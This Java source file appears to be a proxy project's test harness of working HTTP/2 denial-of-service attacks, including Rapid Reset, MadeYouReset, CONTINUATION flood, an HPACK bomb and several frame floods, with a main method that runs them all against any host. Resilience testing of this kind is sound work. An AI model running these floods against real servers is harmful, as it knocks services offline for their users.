package dev.weldr.proxy;

import dev.weldr.tls.TlsClient;

import io.netty.handler.codec.http2.Http2Error;

import javax.net.ssl.SSLContext;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.function.ObjIntConsumer;

import static dev.weldr.proxy.H2Wire.CONTINUATION;
import static dev.weldr.proxy.H2Wire.DATA;
import static dev.weldr.proxy.H2Wire.END_HEADERS;
import static dev.weldr.proxy.H2Wire.END_STREAM;
import static dev.weldr.proxy.H2Wire.HEADERS;

/**
 * The known HTTP/2 attacks, each against any HTTP/2 server, each reporting what the server did
 * (GOAWAY and its code, RST_STREAM codes, statuses, whether it closed the connection or stopped
 * reading). Memory cannot be seen from outside: the tests measure it in-process. Run against
 * another server with {@code java -cp ... dev.weldr.proxy.H2Attacks host port [tls]}.
 */
final class H2Attacks {

    private H2Attacks() {
    }

    /** How long a flood may go on, and how long to wait afterwards for the server to end the connection. */
    record Budget(Duration flood, Duration settle) {
    }

    /** A write blocked this long means the server stopped reading from the connection. */
    private static final Duration STALL = Duration.ofSeconds(3);

    /** What one attack did and what the server did about it. */
    record Outcome(String attack, H2Wire wire, double seconds, boolean stalled, Map<String, Long> facts, boolean ended,
                   String serverDid) {
        /** Taken when the attack is over, before this client closes the connection. */
        Outcome(String attack, H2Wire wire, double seconds, boolean stalled, Map<String, Long> facts) {
            this(attack, wire, seconds, stalled, facts, wire.ended(), wire.serverDid());
        }

        Long goAway() {
            return wire.goAwayCode;
        }

        boolean goAway(Http2Error error) {
            return wire.goAwayCode != null && wire.goAwayCode == error.code();
        }

        @Override
        public String toString() {
            return String.format("%s: sent %d frames (%d KiB) in %.1f s%s%s; server: %s", attack, wire.framesOut.get(),
                    wire.bytesOut.get() / 1024, seconds, stalled ? ", then the server stopped reading (a write blocked " + STALL.toSeconds() + " s)" : "",
                    facts.isEmpty() ? "" : " " + facts, serverDid);
        }
    }

    interface Step {
        void send(H2Wire wire, int i) throws IOException;
    }

    /**
     * Sends {@code count} steps, flushing every {@code flushEvery}, until the server ends the
     * connection, stops reading, or the budget is spent; then reads what the server sent and waits
     * (within the budget) until it ends the connection.
     */
    static Outcome flood(String attack, H2Wire wire, int count, int flushEvery, Budget budget, Step step) {
        long start = System.nanoTime();
        AtomicBoolean stop = new AtomicBoolean();
        AtomicBoolean done = new AtomicBoolean();
        Thread writer = new Thread(() -> {
            try {
                for (int i = 0; i < count && !stop.get() && !wire.ended(); i++) {
                    step.send(wire, i);
                    if (i % flushEvery == flushEvery - 1) {
                        wire.flush();
                    }
                }
                wire.flush();
            } catch (IOException e) {
                // the server closed: ended() says so once the reader sees it
            } finally {
                done.set(true);
            }
        }, "h2-attack-" + attack);
        writer.setDaemon(true);
        writer.start();
        boolean stalled = false;
        while (!done.get() && !wire.ended() && System.nanoTime() - start < budget.flood().toNanos()) {
            if (System.nanoTime() - wire.lastWriteNanos > STALL.toNanos()) {
                stalled = true;
                break;
            }
            H2Wire.pause();
        }
        stop.set(true);
        wire.startReading();
        awaitEnd(wire, budget.settle());
        Outcome outcome = new Outcome(attack, wire, (System.nanoTime() - start) / 1e9, stalled, Map.of());
        wire.close();
        return outcome;
    }

    private static void awaitEnd(H2Wire wire, Duration settle) {
        long deadline = System.nanoTime() + settle.toNanos();
        while (!wire.ended() && System.nanoTime() < deadline) {
            H2Wire.pause();
        }
    }

    private static H2Wire attacker(H2Wire.Target target) throws IOException {
        H2Wire wire = H2Wire.open(target);
        // An attacker reads but gives no window back: a writer blocked on a full socket must not
        // also hold up the reader that wants to send a WINDOW_UPDATE.
        wire.returnWindow = false;
        return wire;
    }

    // ---- the attacks ------------------------------------------------------------------------

    /** CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), as fast as the socket takes them. */
    static Outcome rapidReset(H2Wire.Target target, Budget budget) throws IOException {
        return flood("rapid-reset", attacker(target), 20_000, 50, budget, (w, i) -> {
            int s = w.newStream();
            w.headers(s, "GET", "/rapid-reset", true);
            w.rst(s, Http2Error.CANCEL);
        });
    }

    /**
     * CVE-2025-8671: frames that make the server reset the stream itself, in turn a
     * WINDOW_UPDATE of 0 on the stream and DATA on a stream the client already ended: both
     * stream errors by RFC 9113, so that only a limit on the resets the server sends ends it.
     */
    static Outcome madeYouReset(H2Wire.Target target, Budget budget) throws IOException {
        byte[] one = {'x'};
        return flood("made-you-reset", attacker(target), 20_000, 30, budget, (w, i) -> {
            int s = w.newStream();
            if (i % 2 == 0) {
                w.headers(s, "POST", "/made-you-reset", false);
                w.windowUpdate(s, 0);
            } else {
                w.headers(s, "GET", "/made-you-reset", true);
                w.frame(DATA, 0, s, one);
            }
        });
    }

    /**
     * CVE-2024-27316: a HEADERS without END_HEADERS, then CONTINUATION frames without end, each
     * a 16000-byte header (or, with {@code empty}, CONTINUATION frames of no bytes at all, which
     * no header-size limit ever catches).
     */
    static Outcome continuationFlood(H2Wire.Target target, Budget budget, boolean empty) throws IOException {
        H2Wire w = attacker(target);
        int s = w.newStream();
        w.frame(HEADERS, END_STREAM, s, w.block(s, "GET", "/continuation-flood"));
        byte[] chunk = empty ? new byte[0] : literal("x-flood", "a".repeat(16_000));
        return flood(empty ? "continuation-flood-empty" : "continuation-flood", w, empty ? 2_000_000 : 8_192,
                empty ? 1_000 : 1, budget, (wire, i) -> wire.frame(CONTINUATION, 0, s, chunk));
    }

    /**
     * HPACK bomb: one 4000-byte header value put in the dynamic table, then referenced by its
     * one-byte index 16 thousand times per frame, four frames per header block, on each of
     * {@code streams} streams: about 250 MB of decoded header list per stream from 64 KiB sent.
     */
    static Outcome hpackBomb(H2Wire.Target target, Budget budget, int streams) throws IOException {
        H2Wire w = H2Wire.open(target);
        w.returnWindow = false;
        long start = System.nanoTime();
        List<Integer> bombs = new ArrayList<>();
        try {
            for (int k = 0; k < streams && !w.ended(); k++) {
                int s = w.newStream();
                bombs.add(s);
                ByteArrayOutputStream head = new ByteArrayOutputStream();
                // Only the static table and the bomb's own entry: Netty's encoder would keep a
                // dynamic table of its own that the bomb's entry shifts.
                head.write(0x82); // :method GET
                head.write(target.tls() == null ? 0x86 : 0x87); // :scheme
                head.write(0x84); // :path /
                head.writeBytes(literalIndexedName(1, "weldr.test")); // :authority
                if (k == 0) {
                    head.writeBytes(literalIncrementalIndexing("x-bomb", "b".repeat(4_000)));
                }
                byte[] first = refs(16_384 - head.size());
                head.writeBytes(first);
                w.frame(HEADERS, END_STREAM, s, head.toByteArray());
                byte[] more = refs(16_384);
                w.frame(CONTINUATION, 0, s, more);
                w.frame(CONTINUATION, 0, s, more);
                w.frame(CONTINUATION, END_HEADERS, s, more);
                w.flush();
            }
        } catch (IOException e) {
            // the server closed the connection: reported below
        }
        long deadline = System.nanoTime() + budget.settle().toNanos();
        while (!w.ended() && !bombs.stream().allMatch(s -> w.statuses.containsKey(s) || w.resets.containsKey(s))
                && System.nanoTime() < deadline) {
            H2Wire.pause();
        }
        Map<String, Long> facts = new LinkedHashMap<>();
        facts.put("bombStreams", (long) bombs.size());
        facts.put("bombStreamsAnswered2xx", bombs.stream().filter(s -> w.statuses.getOrDefault(s, "").startsWith("2")).count());
        Outcome outcome = new Outcome("hpack-bomb", w, (System.nanoTime() - start) / 1e9, false, facts);
        w.close();
        return outcome;
    }

    /**
     * SETTINGS flood: SETTINGS frames, each owing an ACK, sent by a client that reads none of
     * the ACKs (and made its receive buffer small), so that they pile up at the server.
     */
    static Outcome settingsFlood(H2Wire.Target target, Budget budget) throws IOException {
        H2Wire w = H2Wire.open(target, Map.of(), 4096, false);
        Map<Integer, Long> push = Map.of(H2Wire.SETTINGS_ENABLE_PUSH, 0L);
        return flood("settings-flood", w, 1_000_000, 100, budget, (wire, i) -> wire.settings(push));
    }

    /** PING flood: PINGs, each owing a PING ACK, sent by a client that reads none of them. */
    static Outcome pingFlood(H2Wire.Target target, Budget budget) throws IOException {
        H2Wire w = H2Wire.open(target, Map.of(), 4096, false);
        return flood("ping-flood", w, 1_000_000, 100, budget, (wire, i) -> wire.ping(i, false));
    }

    /** Empty DATA frames without END_STREAM on one request: each costs the server work and moves nothing. */
    static Outcome emptyDataFlood(H2Wire.Target target, Budget budget) throws IOException {
        H2Wire w = attacker(target);
        int s = w.newStream();
        w.headers(s, "POST", "/empty-data", false);
        byte[] none = new byte[0];
        return flood("empty-data-flood", w, 500_000, 1_000, budget, (wire, i) -> wire.frame(DATA, 0, s, none));
    }

    /**
     * Zero-window stall: the client advertises an initial stream window of 0, then asks for
     * {@code path} (a big answer) on up to {@code streams} streams, and never opens a window. A
     * server that reads the backends' answers regardless has to hold them all. {@code whileStalled}
     * runs once the requests are sent (the tests measure the heap there); then the outcome waits
     * (within the budget) until the server ends the connection or every stream.
     */
    static Outcome zeroWindow(H2Wire.Target target, Budget budget, int streams, String path, ObjIntConsumer<H2Wire> whileStalled)
            throws IOException {
        H2Wire w = H2Wire.open(target, Map.of(H2Wire.SETTINGS_INITIAL_WINDOW_SIZE, 0L), -1, true);
        w.returnWindow = false;
        long start = System.nanoTime();
        long max = advertisedMax(w, budget);
        int n = (int) Math.min(streams, max < 0 ? 100 : max);
        List<Integer> opened = new ArrayList<>();
        for (int k = 0; k < n; k++) {
            int s = w.newStream();
            opened.add(s);
            w.headers(s, "GET", path, true);
        }
        w.flush();
        whileStalled.accept(w, n);
        long deadline = System.nanoTime() + budget.settle().toNanos();
        while (!w.ended() && !opened.stream().allMatch(w.resets::containsKey) && System.nanoTime() < deadline) {
            H2Wire.pause();
        }
        Map<String, Long> facts = new LinkedHashMap<>();
        facts.put("streams", (long) n);
        facts.put("streamsReset", opened.stream().filter(w.resets::containsKey).count());
        facts.put("bodyBytesReceived", w.bodyBytes.values().stream().mapToLong(Long::longValue).sum());
        Outcome outcome = new Outcome("zero-window", w, (System.nanoTime() - start) / 1e9, false, facts);
        w.close();
        return outcome;
    }

    /**
     * More streams than advertised: request heads without END_STREAM (so each stream stays open)
     * on {@code extra} more streams than the server's SETTINGS_MAX_CONCURRENT_STREAMS (100 when it
     * advertises none, which RFC 9113 allows and which means unlimited).
     */
    static Outcome moreStreams(H2Wire.Target target, Budget budget, int extra) throws IOException {
        H2Wire w = attacker(target);
        long start = System.nanoTime();
        long max = advertisedMax(w, budget);
        int within = (int) (max < 0 ? 100 : max);
        List<Integer> opened = new ArrayList<>();
        for (int k = 0; k < within + extra; k++) {
            int s = w.newStream();
            opened.add(s);
            w.headers(s, "POST", "/more-streams", false);
        }
        w.flush();
        List<Integer> beyond = opened.subList(within, opened.size());
        long deadline = System.nanoTime() + budget.settle().toNanos();
        while (!w.ended() && !beyond.stream().allMatch(w.resets::containsKey) && System.nanoTime() < deadline) {
            H2Wire.pause();
        }
        Map<String, Long> facts = new LinkedHashMap<>();
        facts.put("advertisedMaxConcurrentStreams", max);
        facts.put("opened", (long) opened.size());
        facts.put("withinLimitRefused", opened.subList(0, within).stream()
                .filter(s -> Long.valueOf(Http2Error.REFUSED_STREAM.code()).equals(w.resets.get(s))).count());
        facts.put("beyondLimitReset", beyond.stream().filter(w.resets::containsKey).count());
        facts.put("beyondLimitRefused", beyond.stream()
                .filter(s -> Long.valueOf(Http2Error.REFUSED_STREAM.code()).equals(w.resets.get(s))).count());
        Outcome outcome = new Outcome("more-streams", w, (System.nanoTime() - start) / 1e9, false, facts);
        w.close();
        return outcome;
    }

    /** The server's SETTINGS_MAX_CONCURRENT_STREAMS, or -1 when its first SETTINGS names none. */
    static long advertisedMax(H2Wire w, Budget budget) throws IOException {
        long deadline = System.nanoTime() + budget.settle().toNanos();
        while (w.serverSettings == null) {
            if (w.ended() || System.nanoTime() > deadline) {
                throw new IOException("no SETTINGS from the server: " + w.serverDid());
            }
            H2Wire.pause();
        }
        return w.serverSettings.getOrDefault(H2Wire.SETTINGS_MAX_CONCURRENT_STREAMS, -1L);
    }

    // ---- HPACK by hand (RFC 7541) -----------------------------------------------------------

    /** An integer with an N-bit prefix, the prefix's other bits set to {@code flags} (RFC 7541 §5.1). */
    private static void integer(ByteArrayOutputStream out, int flags, int prefixBits, int value) {
        int max = (1 << prefixBits) - 1;
        if (value < max) {
            out.write(flags | value);
            return;
        }
        out.write(flags | max);
        value -= max;
        while (value >= 128) {
            out.write(value & 0x7f | 0x80);
            value >>>= 7;
        }
        out.write(value);
    }

    private static void string(ByteArrayOutputStream out, String s) {
        byte[] b = s.getBytes(StandardCharsets.US_ASCII);
        integer(out, 0, 7, b.length);
        out.writeBytes(b);
    }

    /** Literal header field without indexing, new name. */
    static byte[] literal(String name, String value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0x00);
        string(out, name);
        string(out, value);
        return out.toByteArray();
    }

    /** Literal header field with incremental indexing, new name: it becomes dynamic entry 62. */
    static byte[] literalIncrementalIndexing(String name, String value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0x40);
        string(out, name);
        string(out, value);
        return out.toByteArray();
    }

    /** Literal header field without indexing, name from the static table. */
    static byte[] literalIndexedName(int nameIndex, String value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        integer(out, 0x00, 4, nameIndex);
        string(out, value);
        return out.toByteArray();
    }

    /** {@code n} references to dynamic entry 62 (the newest), one byte each. */
    static byte[] refs(int n) {
        byte[] b = new byte[n];
        java.util.Arrays.fill(b, (byte) (0x80 | 62));
        return b;
    }

    // ---- against any server -----------------------------------------------------------------

    /**
     * Runs every attack against host:port and prints what the server did: h2c with prior
     * knowledge, or h2 over TLS (certificate not checked) with a third argument {@code tls}.
     * The zero-window stall asks for {@code /} (point the server at a backend with a big answer).
     */
    public static void main(String[] args) throws Exception {
        SSLContext tls = null;
        if (args.length > 2 && args[2].equals("tls")) {
            tls = TlsClient.trustingAnything();
        }
        H2Wire.Target t = new H2Wire.Target(args[0], Integer.parseInt(args[1]), tls);
        Budget b = new Budget(Duration.ofSeconds(10), Duration.ofSeconds(5));
        String path = args.length > 3 ? args[3] : "/";
        List<Attack> attacks = List.of(
                () -> rapidReset(t, b), () -> madeYouReset(t, b), () -> continuationFlood(t, b, false),
                () -> continuationFlood(t, b, true), () -> hpackBomb(t, b, 10), () -> settingsFlood(t, b),
                () -> pingFlood(t, b), () -> emptyDataFlood(t, b), () -> zeroWindow(t, b, 100, path, (w, n) -> {
                }), () -> moreStreams(t, b, 50));
        System.out.println("target " + t);
        for (Attack a : attacks) {
            try {
                System.out.println(a.run());
            } catch (IOException e) {
                System.out.println("failed to run: " + e);
            }
            // the server after the attack: does it still answer a well-behaved client?
            try (H2Wire good = H2Wire.open(t)) {
                System.out.println("  then a well-behaved GET: " + good.get(path, Duration.ofSeconds(10)));
            } catch (IOException e) {
                System.out.println("  then a well-behaved GET failed: " + e.getMessage());
            }
        }
    }

    interface Attack {
        Outcome run() throws IOException;
    }
}
